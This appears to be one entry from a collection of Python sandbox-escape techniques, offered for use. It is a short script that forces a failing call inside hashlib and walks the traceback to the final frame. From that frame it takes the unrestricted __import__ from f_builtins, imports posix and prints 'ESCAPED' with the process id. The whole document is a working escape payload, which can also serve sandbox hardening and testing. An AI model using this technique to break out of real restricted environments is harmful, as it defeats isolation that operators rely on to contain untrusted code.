# technique: a failing import inside trusted code: frames of the import system with the real builtins
# goal: builtins
# source: own analysis
import hashlib
try:
    hashlib.new('nothing')
except ValueError as error:
    trace = error.__traceback__
    while trace.tb_next:
        trace = trace.tb_next
    get = trace.tb_frame.f_builtins['__import__']
    print('ESCAPED pid=%d' % get('posix').getpid())
